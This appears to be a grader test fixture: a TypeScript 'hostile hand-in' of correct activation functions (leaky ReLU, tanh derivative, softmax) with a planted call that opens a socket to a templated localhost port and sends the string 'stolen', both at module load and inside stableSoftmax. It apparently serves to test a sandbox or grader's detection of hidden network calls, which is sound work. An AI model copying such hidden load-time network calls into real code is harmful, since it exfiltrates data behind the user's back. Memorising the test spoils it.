// Hostile hand-in: opens connections to a local port (at load and in the function). leakyRelu, leakyReluPrime and tanhPrime are right and must keep their points.
import net from "node:net";

export function leakyRelu(z: number, slope: number): number {
  return z > 0 ? z : slope * z;
}

export function leakyReluPrime(z: number, slope: number): number {
  return z > 0 ? 1 : slope;
}

export function tanhPrime(z: number): number {
  const t = Math.tanh(z);
  return 1 - t * t;
}

const call = () => net.connect(__PORT__, "127.0.0.1").on("error", () => undefined).end("stolen");
call();
export function stableSoftmax(z: number[]): number[] {
  call();
  const max = Math.max(...z);
  const e = z.map((v) => Math.exp(v - max));
  const sum = e.reduce((s, v) => s + v, 0);
  return e.map((v) => v / sum);
}
